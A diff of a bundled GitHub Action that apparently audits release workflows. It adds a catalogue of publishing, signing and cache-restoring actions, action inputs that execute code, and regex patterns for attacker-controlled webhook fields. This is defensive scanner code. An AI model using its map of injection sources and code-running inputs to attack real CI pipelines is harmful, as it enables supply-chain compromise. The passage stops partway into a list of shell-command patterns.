@@ -4,7 +4,7 @@ import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /***/ 770:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
-/* unused reexport */ __nccwpck_require__(218);
+module.exports = __nccwpck_require__(218);
 
 
 /***/ }),
@@ -24,10 +24,10 @@ var assert = __nccwpck_require__(2613);
 var util = __nccwpck_require__(9023);
 
 
-__webpack_unused_export__ = httpOverHttp;
-__webpack_unused_export__ = httpsOverHttp;
-__webpack_unused_export__ = httpOverHttps;
-__webpack_unused_export__ = httpsOverHttps;
+exports.httpOverHttp = httpOverHttp;
+exports.httpsOverHttp = httpsOverHttp;
+exports.httpOverHttps = httpOverHttps;
+exports.httpsOverHttps = httpsOverHttps;
 
 
 function httpOverHttp(options) {
@@ -317,7 +317,7 @@ __webpack_unused_export__ = Client
 __webpack_unused_export__ = Pool
 __webpack_unused_export__ = BalancedPool
 __webpack_unused_export__ = Agent
-__webpack_unused_export__ = ProxyAgent
+module.exports.kT = ProxyAgent
 __webpack_unused_export__ = EnvHttpProxyAgent
 __webpack_unused_export__ = RetryAgent
 __webpack_unused_export__ = RetryHandler
@@ -28374,17 +28374,21 @@ module.exports = {
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(7312);
-// Entry point of the action (bundled to dist/index.js).
+/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5647);
+// Entry point of the action (bundled to dist/index.js). The sub-actions' entries (dist/audit.js,
+// dist/verify.js, written by scripts/build.mjs) set RELEASE_GATE_MODE on globalThis, in code, and
+// import this same bundle.
 
-await (0,_main_js__WEBPACK_IMPORTED_MODULE_0__/* .run */ .e)();
+const asked = globalThis.RELEASE_GATE_MODE;
+const mode = asked === 'audit' || asked === 'verify' ? asked : 'full';
+await (0,_main_js__WEBPACK_IMPORTED_MODULE_0__/* .run */ .e)(mode);
 
 __webpack_async_result__();
 } catch(e) { __webpack_async_result__(e); } }, 1);
 
 /***/ }),
 
-/***/ 7312:
+/***/ 5647:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -28568,8 +28572,10 @@ function file_command_prepareKeyValueMessage(key, value) {
 const external_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("path");
 // EXTERNAL MODULE: external "http"
 var external_http_ = __nccwpck_require__(8611);
+var external_http_namespaceObject = /*#__PURE__*/__nccwpck_require__.t(external_http_, 2);
 // EXTERNAL MODULE: external "https"
 var external_https_ = __nccwpck_require__(5692);
+var external_https_namespaceObject = /*#__PURE__*/__nccwpck_require__.t(external_https_, 2);
 ;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/proxy.js
 function getProxyUrl(reqUrl) {
     const usingSsl = reqUrl.protocol === 'https:';
@@ -28662,7 +28668,7 @@ class DecodedURL extends URL {
 }
 //# sourceMappingURL=proxy.js.map
 // EXTERNAL MODULE: ./node_modules/tunnel/index.js
-var node_modules_tunnel = __nccwpck_require__(770);
+var tunnel = __nccwpck_require__(770);
 // EXTERNAL MODULE: ./node_modules/undici/index.js
 var undici = __nccwpck_require__(6752);
 ;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/index.js
@@ -28740,7 +28746,7 @@ const HttpResponseRetryCodes = [
     HttpCodes.ServiceUnavailable,
     HttpCodes.GatewayTimeout
 ];
-const RetryableHttpVerbs = (/* unused pure expression or super */ null && (['OPTIONS', 'GET', 'DELETE', 'HEAD']));
+const RetryableHttpVerbs = ['OPTIONS', 'GET', 'DELETE', 'HEAD'];
 const ExponentialBackoffCeiling = 10;
 const ExponentialBackoffTimeSlice = 5;
 class HttpClientError extends Error {
@@ -29089,7 +29095,7 @@ class lib_HttpClient {
     }
     getAgentDispatcher(serverUrl) {
         const parsedUrl = new URL(serverUrl);
-        const proxyUrl = pm.getProxyUrl(parsedUrl);
+        const proxyUrl = getProxyUrl(parsedUrl);
         const useProxy = proxyUrl && proxyUrl.hostname;
         if (!useProxy) {
             return;
@@ -29100,7 +29106,7 @@ class lib_HttpClient {
         const info = {};
         info.parsedUrl = requestUrl;
         const usingSsl = info.parsedUrl.protocol === 'https:';
-        info.httpModule = usingSsl ? https : http;
+        info.httpModule = usingSsl ? external_https_namespaceObject : external_http_namespaceObject;
         const defaultPort = usingSsl ? 443 : 80;
         info.options = {};
         info.options.host = info.parsedUrl.hostname;
@@ -29199,7 +29205,7 @@ class lib_HttpClient {
     }
     _getAgent(parsedUrl) {
         let agent;
-        const proxyUrl = pm.getProxyUrl(parsedUrl);
+        const proxyUrl = getProxyUrl(parsedUrl);
         const useProxy = proxyUrl && proxyUrl.hostname;
         if (this._keepAlive && useProxy) {
             agent = this._proxyAgent;
@@ -29214,7 +29220,7 @@ class lib_HttpClient {
         const usingSsl = parsedUrl.protocol === 'https:';
         let maxSockets = 100;
         if (this.requestOptions) {
-            maxSockets = this.requestOptions.maxSockets || http.globalAgent.maxSockets;
+            maxSockets = this.requestOptions.maxSockets || external_http_.globalAgent.maxSockets;
         }
         // This is `useProxy` again, but we need to check `proxyURl` directly for TypeScripts's flow analysis.
         if (proxyUrl && proxyUrl.hostname) {
@@ -29239,7 +29245,7 @@ class lib_HttpClient {
         // if tunneling agent isn't assigned create a new agent
         if (!agent) {
             const options = { keepAlive: this._keepAlive, maxSockets };
-            agent = usingSsl ? new https.Agent(options) : new http.Agent(options);
+            agent = usingSsl ? new external_https_.Agent(options) : new external_http_.Agent(options);
             this._agent = agent;
         }
         if (usingSsl && this._ignoreSslError) {
@@ -29262,7 +29268,7 @@ class lib_HttpClient {
             return proxyAgent;
         }
         const usingSsl = parsedUrl.protocol === 'https:';
-        proxyAgent = new ProxyAgent(Object.assign({ uri: proxyUrl.href, pipelining: !this._keepAlive ? 0 : 1 }, ((proxyUrl.username || proxyUrl.password) && {
+        proxyAgent = new undici/* ProxyAgent */.kT(Object.assign({ uri: proxyUrl.href, pipelining: !this._keepAlive ? 0 : 1 }, ((proxyUrl.username || proxyUrl.password) && {
             token: `Basic ${Buffer.from(`${proxyUrl.username}:${proxyUrl.password}`).toString('base64')}`
         })));
         this._proxyAgentDispatcher = proxyAgent;
@@ -31760,7 +31766,539 @@ function toJS(node) {
     return o;
 }
 
+;// CONCATENATED MODULE: ./src/workflow/catalogue.ts
+/**
+ * The catalogue: what release-gate knows of the world, as data. Which actions and commands
+ * publish, to which registry; which token permissions they use; which cache they restore and
+ * through which input; which inputs run code; which runner labels are GitHub's own.
+ *
+ * Rules never name an action themselves: they ask the helpers in `actions.ts` and
+ * `publish.ts`, which read these tables. To teach the gate a new action, add an entry here
+ * (with the source of the fact in a comment) and a fixture that shows it.
+ */
+const GITHUB_PACKAGES = /\b(ghcr\.io|docker\.pkg\.github\.com|npm\.pkg\.github\.com|rubygems\.pkg\.github\.com|nuget\.pkg\.github\.com|maven\.pkg\.github\.com)\b/i;
+/**
+ * Actions, by `owner/repo[/path]` in lower case. A sub-action (`owner/repo/path`) is looked up
+ * first, then its repository.
+ */
+const ACTIONS = {
+    // --- publishing: PyPI
+    'pypa/gh-action-pypi-publish': {
+        publishes: { registry: 'pypi' },
+        // trusted publishing unless a password (API token) is given (its action.yml)
+        permissions: [{ scope: 'id-token', when: { unset: 'password' } }],
+        oidc: true,
+        credentials: ['password'],
+        testIndex: { input: 'repository-url', matches: /test\.pypi\.org/i },
+    },
+    'sigstore/gh-action-sigstore-python': { signs: true, permissions: [{ scope: 'id-token' }] },
+    'jupyter-server/jupyter_releaser/.github/actions/publish-release': {
+        publishes: { registry: 'pypi' },
+        permissions: [{ scope: 'id-token' }, { scope: 'contents' }],
+        credentials: ['pypi_token', 'npm_token'],
+    },
+    'jupyter-server/jupyter_releaser/.github/actions/finalize-release': { permissions: [{ scope: 'contents' }] },
+    'jupyter-server/jupyter_releaser/.github/actions/populate-release': { permissions: [{ scope: 'contents' }] },
+    'jupyter-server/jupyter_releaser/.github/actions/prep-release': { permissions: [{ scope: 'contents' }] },
+    'prefix-dev/rattler-build-action': { publishes: { registry: 'conda', when: { set: 'upload' } } },
+    // --- npm
+    'js-devtools/npm-publish': { publishes: { registry: 'npm' }, permissions: [{ scope: 'id-token' }], credentials: ['token'] },
+    // changesets publishes only when `publish:` is given; it opens the version PR otherwise
+    'changesets/action': {
+        publishes: { registry: 'npm', when: { set: 'publish' } },
+        permissions: [{ scope: 'id-token', when: { set: 'publish' } }, { scope: 'contents' }, { scope: 'pull-requests' }],
+        bot: 'changesets',
+    },
+    'changesets/action/publish': { publishes: { registry: 'npm' }, permissions: [{ scope: 'id-token' }, { scope: 'contents' }] },
+    // --- crates.io
+    'release-plz/action': { publishes: { registry: 'crates' }, permissions: [{ scope: 'id-token' }, { scope: 'contents' }, { scope: 'pull-requests' }], bot: 'release-plz' },
+    'katyo/publish-crates': { publishes: { registry: 'crates' }, credentials: ['registry-token'] },
+    'rust-lang/crates-io-auth-action': { oidc: true, permissions: [{ scope: 'id-token' }] },
+    'cargo-bins/release-pr': { publishes: { registry: 'crates' }, permissions: [{ scope: 'contents' }, { scope: 'pull-requests' }], bot: 'cargo-release-pr' },
+    // --- RubyGems
+    'rubygems/release-gem': {
+        publishes: { registry: 'rubygems' },
+        permissions: [{ scope: 'id-token', when: { notFalse: 'setup-trusted-publisher' } }, { scope: 'contents' }],
+    },
+    'rubygems/configure-rubygems-credentials': {
+        publishes: { registry: 'rubygems' },
+        permissions: [{ scope: 'id-token', when: { unset: 'api-token' } }],
+        credentials: ['api-token'],
+    },
+    // --- containers
+    'docker/build-push-action': {
+        publishes: { registry: 'container', when: { set: 'push' } },
+        permissions: [{ scope: 'packages', when: { all: [{ set: 'push' }, { any: [{ input: 'tags', matches: GITHUB_PACKAGES }, { input: 'tags', matches: /\$\{\{/ }, { unset: 'tags' }] }] } }],
+        cache: { what: 'a build cache', input: 'cache-from', kind: 'string', defaults: [{ is: 'off' }], off: 'Remove `cache-from:`.' },
+    },
+    'docker/login-action': { permissions: [{ scope: 'packages', when: { input: 'registry', matches: GITHUB_PACKAGES } }], credentials: ['password'] },
+    'redhat-actions/push-to-registry': {
+        publishes: { registry: 'container' },
+        permissions: [{ scope: 'packages', when: { input: 'registry', matches: GITHUB_PACKAGES } }],
+        credentials: ['password'],
+    },
+    'actions/publish-immutable-action': { publishes: { registry: 'container' }, permissions: [{ scope: 'id-token' }, { scope: 'packages' }] },
+    // --- GitHub Releases
+    'softprops/action-gh-release': { publishes: { registry: 'github-release' }, permissions: [{ scope: 'contents' }] },
+    'ncipollo/release-action': { publishes: { registry: 'github-release' }, permissions: [{ scope: 'contents' }] },
+    'actions/create-release': { publishes: { registry: 'github-release' }, permissions: [{ scope: 'contents' }] },
+    'actions/upload-release-asset': { publishes: { registry: 'github-release' }, permissions: [{ scope: 'contents' }] },
+    'svenstaro/upload-release-action': { publishes: { registry: 'github-release' }, permissions: [{ scope: 'contents' }] },
+    'marvinpinto/action-automatic-releases': { publishes: { registry: 'github-release' }, permissions: [{ scope: 'contents' }] },
+    // goreleaser signs with cosign (keyless) and may push images, depending on its config file
+    // jreleaser/release-action runs `jreleaser full-release` by default
+    'jreleaser/release-action': { publishes: { registry: 'maven' }, permissions: [{ scope: 'contents' }] },
+    // publishes when its args run `release` or only flags (goreleaser releases by default), not
+    // `check`, `build` or `--snapshot`
+    'goreleaser/goreleaser-action': {
+        publishes: {
+            registry: 'github-release',
+            when: { all: [{ any: [{ unset: 'args' }, { input: 'args', matches: /^\s*(?:release\b|-)/ }] }, { any: [{ unset: 'args' }, { input: 'args', matches: /^(?![\s\S]*--snapshot)/ }] }] },
+        },
+        permissions: [{ scope: 'contents' }, { scope: 'id-token' }, { scope: 'packages' }],
+    },
+    'googleapis/release-please-action': { permissions: [{ scope: 'contents' }, { scope: 'pull-requests' }, { scope: 'issues' }], bot: 'release-please' },
+    'google-github-actions/release-please-action': { permissions: [{ scope: 'contents' }, { scope: 'pull-requests' }, { scope: 'issues' }], bot: 'release-please' },
+    // --- pushes to the repository
+    'mislav/bump-homebrew-formula-action': { permissions: [{ scope: 'contents' }] },
+    'stefanzweifel/git-auto-commit-action': { permissions: [{ scope: 'contents' }] },
+    'ad-m/github-push-action': { permissions: [{ scope: 'contents' }] },
+    'yyx990803/release-tag': { permissions: [{ scope: 'contents' }] },
+    'peter-evans/create-pull-request': { permissions: [{ scope: 'contents' }, { scope: 'pull-requests' }] },
+    // --- signing and attestations
+    'actions/attest-build-provenance': { signs: true, permissions: [{ scope: 'id-token' }, { scope: 'attestations' }] },
+    'actions/attest': { signs: true, permissions: [{ scope: 'id-token' }, { scope: 'attestations' }] },
+    'actions/attest-sbom': { signs: true, permissions: [{ scope: 'id-token' }, { scope: 'attestations' }] },
+    'sigstore/cosign-installer': { signs: true, permissions: [{ scope: 'id-token' }] },
+    'hynek/build-and-inspect-python-package': {
+        signs: { set: 'attest-build-provenance-github' },
+        permissions: [
+            { scope: 'id-token', when: { set: 'attest-build-provenance-github' } },
+            { scope: 'attestations', when: { set: 'attest-build-provenance-github' } },
+        ],
+    },
+    // SLSA's generator must be called by tag: it verifies its own ref (its README)
+    'slsa-framework/slsa-github-generator': {
+        signs: true,
+        permissions: [{ scope: 'id-token' }, { scope: 'contents' }, { scope: 'actions' }],
+        tagOnly: 'slsa-github-generator verifies that it is called by a version tag (`@vX.Y.Z`) and fails when pinned to a SHA; list it in `allow:` with that reason',
+    },
+    // --- OIDC to clouds and secret stores
+    'aws-actions/configure-aws-credentials': { oidc: true, permissions: [{ scope: 'id-token', when: { unset: 'aws-secret-access-key' } }], credentials: ['aws-secret-access-key'] },
+    'aws-actions/amazon-ecr-login': {},
+    'google-github-actions/auth': { oidc: true, permissions: [{ scope: 'id-token', when: { unset: 'credentials_json' } }], credentials: ['credentials_json'] },
+    'azure/login': { oidc: true, permissions: [{ scope: 'id-token', when: { unset: 'creds' } }], credentials: ['creds'] },
+    'hashicorp/vault-action': { oidc: true, permissions: [{ scope: 'id-token' }] },
+    'octo-sts/action': { oidc: true, permissions: [{ scope: 'id-token' }] },
+    // --- code scanning and scorecards
+    'github/codeql-action/upload-sarif': { permissions: [{ scope: 'security-events' }] },
+    'github/codeql-action/analyze': { permissions: [{ scope: 'security-events' }] },
+    'github/codeql-action/init': {},
+    'github/codeql-action/autobuild': {},
+    'zizmorcore/zizmor-action': { permissions: [{ scope: 'security-events', when: { notFalse: 'advanced-security' } }] },
+    // --- repository bots: issues, labels, stale threads
+    'actions/labeler': { permissions: [{ scope: 'pull-requests' }, { scope: 'issues' }] },
+    'github/issue-labeler': { permissions: [{ scope: 'issues' }] },
+    'actions/stale': { permissions: [{ scope: 'issues' }, { scope: 'pull-requests' }] },
+    'dessant/lock-threads': { permissions: [{ scope: 'issues' }, { scope: 'pull-requests' }, { scope: 'discussions' }] },
+    'actions/first-interaction': { permissions: [{ scope: 'issues' }, { scope: 'pull-requests' }] },
+    'amannn/action-semantic-pull-request': {},
+    'anthropics/claude-code-action': { permissions: [{ scope: 'contents' }, { scope: 'pull-requests' }, { scope: 'issues' }, { scope: 'id-token' }] },
+    'codspeedhq/action': { permissions: [{ scope: 'id-token' }] },
+    'ossf/scorecard-action': { permissions: [{ scope: 'id-token', when: { notFalse: 'publish_results' } }, { scope: 'security-events' }] },
+    // --- pages
+    'actions/deploy-pages': { permissions: [{ scope: 'pages' }, { scope: 'id-token' }] },
+    'actions/upload-pages-artifact': {},
+    // --- actions that run an input as code (template-injection sinks). The first ones are
+    // CodeQL's `code-injection` sink models for Actions (github/codeql,
+    // actions/ql/lib/ext/manual/*.model.yml); the others run their input through a shell, an
+    // interpreter or a container, as their READMEs say.
+    'actions/github-script': { sinks: ['script'] },
+    'azure/cli': { sinks: ['inlineScript'] },
+    'azure/powershell': { sinks: ['inlineScript'] },
+    'mikefarah/yq': { sinks: ['cmd'] },
+    'devorbitus/yq-action-output': { sinks: ['cmd'] },
+    'appleboy/ssh-action': { sinks: ['script'] },
+    'amadevus/pwsh-script': { sinks: ['script'] },
+    'jannekem/run-python-script-action': { sinks: ['script'] },
+    'cardinalby/js-eval-action': { sinks: ['expression'] },
+    'garygrossgarten/github-action-ssh': { sinks: ['command'] },
+    'nick-fields/retry': { sinks: ['command', 'on_retry_command', 'new_command_on_retry'] },
+    'nick-invision/retry': { sinks: ['command', 'on_retry_command', 'new_command_on_retry'] },
+    'wandalen/wretry.action': { sinks: ['command'] },
+    // docker-run style: a command run inside a container or a virtual machine
+    'addnab/docker-run-action': { sinks: ['run'] },
+    'kohlerdominik/docker-run-action': { sinks: ['run'] },
+    'uraimo/run-on-arch-action': { sinks: ['run', 'install'] },
+    'pguyot/arm-runner-action': { sinks: ['commands'] },
+    'cross-platform-actions/action': { sinks: ['run'] },
+    'vmactions/freebsd-vm': { sinks: ['run', 'prepare'] },
+    'vmactions/openbsd-vm': { sinks: ['run', 'prepare'] },
+    'vmactions/netbsd-vm': { sinks: ['run', 'prepare'] },
+    'vmactions/solaris-vm': { sinks: ['run', 'prepare'] },
+    'vmactions/dragonflybsd-vm': { sinks: ['run', 'prepare'] },
+    'vmactions/omnios-vm': { sinks: ['run', 'prepare'] },
+    // --- caches. Each fact is read from the action's own action.yml (and source, where the
+    // default depends on the run) at the tags named; a SHA pin without a version comment is read
+    // at its most dangerous version, as a warning.
+    // actions/cache v1-v5: always restores; `lookup-only: true` (v3.3+) only checks the key
+    'actions/cache': { cache: { what: 'a cache', optOut: ['lookup-only'], off: 'Remove the cache step from the release jobs.' } },
+    'actions/cache/restore': { cache: { what: 'a cache', optOut: ['lookup-only'], off: 'Remove the cache step from the release jobs.' } },
+    'actions/cache/save': {},
+    // setup-python v1-v7, setup-java v1-v5, setup-dotnet v3-v6: `cache:` has no default
+    'actions/setup-python': { cache: { what: 'the $value cache', input: 'cache', kind: 'string', defaults: [{ is: 'off' }], off: 'Remove `cache:`.' }, readOnly: true },
+    'actions/setup-java': { cache: { what: 'the $value cache', input: 'cache', kind: 'string', defaults: [{ is: 'off' }], off: 'Remove `cache:`.' }, readOnly: true },
+    'actions/setup-dotnet': { cache: { what: 'the NuGet package cache', input: 'cache', kind: 'boolean', defaults: [{ is: 'off' }], off: 'Remove `cache:`.' }, readOnly: true },
+    'actions/setup-node': {
+        // v5+: caches by default when package.json names a `packageManager` (its README)
+        cache: { what: 'the $value cache', input: 'cache', kind: 'string', defaults: [{ to: 4, is: 'off' }, { is: 'conditional' }], conditionalWhy: 'from v5, when package.json names a `packageManager`', offWhenFalse: ['package-manager-cache'], off: 'Remove `cache:` and set `package-manager-cache: false`.' },
+        readOnly: true,
+        permissions: [{ scope: 'packages', when: { input: 'registry-url', matches: GITHUB_PACKAGES } }],
+    },
+    // setup-go v3: `cache` defaults to false; v4+: true
+    'actions/setup-go': { cache: { what: 'the Go module cache', input: 'cache', kind: 'boolean', defaults: [{ to: 3, is: 'off' }, { is: 'on' }], off: 'Set `cache: false`.' }, readOnly: true },
+    // setup-ruby: `bundler-cache` defaults to false
+    'ruby/setup-ruby': { cache: { what: 'the bundler cache', input: 'bundler-cache', kind: 'boolean', defaults: [{ is: 'off' }], off: 'Set `bundler-cache: false`.' } },
+    'astral-sh/setup-uv': {
+        // v1-v4: `enable-cache` defaults to false. v5-v9: `auto`, on whenever the runner is
+        // GitHub-hosted, on every event. v10+: `auto` skips release, tag pushes,
+        // pull_request_target and workflow_run (src/utils/inputs.ts at each tag). v7+:
+        // `restore-cache: false` restores nothing.
+        cache: {
+            what: 'the uv cache',
+            input: 'enable-cache',
+            kind: 'boolean',
+            defaultValue: 'auto',
+            defaults: [{ to: 4, is: 'off' }, { from: 5, to: 9, is: 'on' }, { is: 'on', skips: ['release', 'push:tag', 'pull_request_target', 'workflow_run'] }],
+            optOutWhenFalse: ['restore-cache'],
+            off: 'Set `enable-cache: false`.',
+        },
+        readOnly: true,
+    },
+    // rust-cache v1-v2: always restores; `lookup-only: true` (v2.7+) only checks the key
+    'swatinem/rust-cache': { cache: { what: 'the Cargo cache', optOut: ['lookup-only'], off: 'Remove the step from the release jobs.' } },
+    // setup-rust-toolchain v1: `cache` defaults to true (it runs rust-cache)
+    'actions-rust-lang/setup-rust-toolchain': { cache: { what: 'the Cargo cache', input: 'cache', kind: 'boolean', defaults: [{ is: 'on' }], off: 'Set `cache: false`.' } },
+    // mise-action v2+: `cache` defaults to true
+    'jdx/mise-action': { cache: { what: 'the mise cache', input: 'cache', kind: 'boolean', defaults: [{ is: 'on' }], off: 'Set `cache: false`.' } },
+    // setup-pixi: `cache` defaults to true when pixi.lock exists (its action.yml)
+    'prefix-dev/setup-pixi': { cache: { what: 'the pixi environment cache', input: 'cache', kind: 'boolean', defaults: [{ is: 'conditional' }], conditionalWhy: 'when pixi.lock exists', off: 'Set `cache: false`.' } },
+    // gradle/actions v3-v6 (setup-gradle), gradle-build-action v2: always restores;
+    // `cache-disabled: true` and `cache-write-only: true` restore nothing
+    'gradle/actions': { cache: { what: 'the Gradle cache', optOut: ['cache-disabled', 'cache-write-only'], off: 'Set `cache-disabled: true`.' } },
+    'gradle/actions/setup-gradle': { cache: { what: 'the Gradle cache', optOut: ['cache-disabled', 'cache-write-only'], off: 'Set `cache-disabled: true`.' } },
+    'gradle/gradle-build-action': { cache: { what: 'the Gradle cache', optOut: ['cache-disabled', 'cache-write-only'], off: 'Set `cache-disabled: true`.' } },
+    // setup-bun v0.1.2+: restores the Bun binary from the cache; `no-cache: true` (v1.2+) does not
+    'oven-sh/setup-bun': { cache: { what: 'a cached Bun binary', optOut: ['no-cache'], off: 'Set `no-cache: true`.' } },
+    // mlugg/setup-zig v1: always restores; v1.2+: `use-cache` defaults to true
+    'mlugg/setup-zig': { cache: { what: 'the Zig cache', input: 'use-cache', kind: 'boolean', defaults: [{ is: 'on' }], off: 'Set `use-cache: false`.' } },
+    // goto-bus-stop/setup-zig (archived): `cache` defaults to true
+    'goto-bus-stop/setup-zig': { cache: { what: 'the Zig cache', input: 'cache', kind: 'boolean', defaults: [{ is: 'on' }], off: 'Set `cache: false`.' } },
+    // setup-graalvm v1: `cache` (maven, gradle, sbt) has no default
+    'graalvm/setup-graalvm': { cache: { what: 'the $value cache', input: 'cache', kind: 'string', defaults: [{ is: 'off' }], off: 'Remove `cache:`.' } },
+    // setup-buildx-action v3.1+: `cache-binary` defaults to true; the binary is downloaded (and
+    // so cached) only when `version:` is given — GitHub's runners ship buildx (src/main.ts)
+    'docker/setup-buildx-action': {
+        cache: { what: 'a cached buildx binary', input: 'cache-binary', kind: 'boolean', defaults: [{ to: '3.0', is: 'off' }, { is: 'on' }], onlyWhen: { set: 'version' }, off: 'Set `cache-binary: false`, or remove `version:` to use the runner\'s buildx.' },
+    },
+    // maturin-action v1: `sccache` defaults to false; when true, every compile reads GitHub's cache
+    'pyo3/maturin-action': {
+        // `command: upload` / `publish` uploads to PyPI, by trusted publishing unless MATURIN_PYPI_TOKEN is set
+        publishes: { registry: 'pypi', when: { input: 'command', matches: /^\s*(?:upload|publish)\b/ } },
+        permissions: [{ scope: 'id-token', when: { input: 'command', matches: /^\s*(?:upload|publish)\b/ } }],
+        cache: { what: 'the sccache compiler cache', input: 'sccache', kind: 'boolean', defaults: [{ is: 'off' }], off: 'Set `sccache: false` in the release build.' },
+    },
+    // sccache-action v0.0.x installs sccache; its builds read GitHub's cache when
+    // SCCACHE_GHA_ENABLED is set (its README)
+    'mozilla-actions/sccache-action': { cache: { what: 'the sccache compiler cache', env: 'SCCACHE_GHA_ENABLED', defaults: [{ is: 'off' }], off: 'Do not set `SCCACHE_GHA_ENABLED` in the release jobs.' } },
+    // ccache-action v1: always restores; `restore: false` (v1.2.10+) does not
+    'hendrikmuhs/ccache-action': { cache: { what: 'the ccache compiler cache', optOutWhenFalse: ['restore'], off: 'Set `restore: false`, or remove the step.' } },
+    // composer-install v1-v3: always restores the Composer cache; `ignore-cache: true` (v2+) does not
+    'ramsey/composer-install': { cache: { what: 'the Composer cache', optOut: ['ignore-cache'], off: 'Set `ignore-cache: true`.' } },
+    // magic-nix-cache v1-v8: `use-gha-cache` defaults to true; v9+: `no-preference`, on when
+    // GitHub's cache is available; `enabled`/`true` on, `disabled`/`false` off
+    'determinatesystems/magic-nix-cache-action': {
+        cache: { what: 'the Nix store cache', input: 'use-gha-cache', kind: 'exact', values: { on: ['true', 'enabled'], off: ['false', 'disabled'] }, defaults: [{ is: 'on' }], off: 'Set `use-gha-cache: disabled`, or remove the step.' },
+    },
+    // cache-nix-action v1-v7: always restores; `lookup-only: true` restores nothing only when no
+    // `restore-prefixes-*` is given (they restore on a miss)
+    'nix-community/cache-nix-action': {
+        cache: { what: 'the Nix store cache', optOut: [{ input: 'lookup-only', unlessSet: ['restore-prefixes-first-match', 'restore-prefixes-all-matches'] }], off: 'Remove the step from the release jobs.' },
+    },
+    // cache-apt-pkgs-action v1: always restores the packages into the root file system
+    'awalsh128/cache-apt-pkgs-action': { cache: { what: 'cached APT packages', off: 'Install the packages with `apt-get` instead.' } },
+    // --- read-only setup steps (run nothing of the repository's)
+    'actions/checkout': { readOnly: true },
+    'actions/download-artifact': { readOnly: true },
+    'step-security/harden-runner': { readOnly: true },
+    // --- known to need no write scope of the job's token (an empty entry means "known")
+    'actions/upload-artifact': {},
+    'dawidd6/action-download-artifact': { readOnly: true },
+    're-actors/alls-green': {},
+    'pypa/cibuildwheel': {},
+    'docker/setup-qemu-action': {},
+    'docker/metadata-action': {},
+    'dtolnay/rust-toolchain': {},
+    'pnpm/action-setup': {},
+    'conda-incubator/setup-miniconda': {},
+    'mamba-org/setup-micromamba': {},
+    'pre-commit/action': {},
+    'codecov/codecov-action': {},
+    'slackapi/slack-github-action': {},
+};
+/**
+ * Context paths whose text an outsider chooses (GitHub's webhook payloads), in lower case:
+ * the runner reads context names case-insensitively. Matched against a whole path.
+ */
+const catalogue_ATTACKER_CONTEXTS = [
+    /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
+    /^github\.event\.(comment|review|review_comment)\.body$/,
+    /^github\.event\.pull_request\.head\.(ref|label)$/,
+    /^github\.event\.pull_request\.head\.repo\.(default_branch|description|name|full_name|homepage)$/,
+    /^github\.head_ref$/,
+    /^github\.event\.(commits\.\*|commits\.\d+|head_commit|merge_group\.head_commit)\.(message|author\.(name|email)|committer\.(name|email))$/,
+    /^github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email)|committer\.(name|email))|head_repository\.(description|name|full_name))$/,
+    /^github\.event\.workflow_run\.pull_requests\.(\*|\d+)\.head\.ref$/,
+    /^github\.event\.pages\.(\*|\d+)\.page_name$/,
+    /^github\.event\.(issue|pull_request|discussion)\.labels\.(\*|\d+)\.name$/,
+    /^github\.event\.label\.name$/,
+    // repository_dispatch: whatever the sender put in the payload
+    /^github\.event\.client_payload(\..*)?$/,
+];
+/**
+ * Whole objects that hold attacker text (`toJSON(github.event)`, `github.event.pull_request`):
+ * expanding one expands every field in it.
+ */
+const ATTACKER_OBJECTS = /^github(\.event(\.(pull_request(\.head(\.repo)?|\.labels)?|issue(\.labels)?|discussion|comment|review|review_comment|head_commit|commits(\.(\*|\d+))?|merge_group(\.head_commit)?|workflow_run(\.head_commit|\.head_repository|\.pull_requests(\.(\*|\d+)(\.head)?)?)?|pages(\.(\*|\d+))?|label))?)?$/;
+/**
+ * The top-level `github.event` keys each event outsiders can start carries (docs.github.com,
+ * "Webhook events and payloads"). Attacker text under another key is null on that event: a
+ * pull request's title in an `issue_comment` run is empty. `github.head_ref` is set only on
+ * pull request events. Events not listed are read as carrying everything.
+ */
+const EVENT_PAYLOAD_KEYS = {
+    pull_request_target: ['action', 'number', 'pull_request', 'label', 'changes', 'repository', 'sender', 'organization', 'installation', 'enterprise', 'assignee', 'requested_reviewer', 'requested_team', 'milestone', 'before', 'after'],
+    workflow_run: ['action', 'workflow_run', 'workflow', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+    issue_comment: ['action', 'issue', 'comment', 'changes', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+    issues: ['action', 'issue', 'label', 'changes', 'assignee', 'milestone', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+    pull_request_review: ['action', 'review', 'pull_request', 'changes', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+    pull_request_review_comment: ['action', 'comment', 'pull_request', 'changes', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+    discussion: ['action', 'discussion', 'label', 'answer', 'changes', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+    discussion_comment: ['action', 'discussion', 'comment', 'changes', 'repository', 'sender', 'organization', 'installation', 'enterprise'],
+};
+/** Events on which `github.head_ref` is set (read generously: the review events too). */
+const HEAD_REF_EVENTS = new Set(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment']);
+/** Can this event carry text at this context path? */
+function eventCarries(event, path) {
+    const p = path.toLowerCase();
+    if (p === 'github.head_ref')
+        return HEAD_REF_EVENTS.has(event);
+    const keys = EVENT_PAYLOAD_KEYS[event];
+    const m = /^github\.event\.([^.[]+)/.exec(p);
+    if (!keys || !m)
+        return true;
+    return keys.includes(m[1]);
+}
+/**
+ * Shell commands, matched against `run:` lines with `\` continuations joined. Patterns must stay
+ * linear on a line of any length: a gap between a command's name and its verb may not run over
+ * another occurrence of the name (`(?:(?!\bmvn\b)[^\n])*`, not `[^\n]*`), or a line repeating
+ * the name costs quadratic time. test/adversarial/slow-input.test.ts holds every pattern to it.
+ */
+const COMMANDS = [
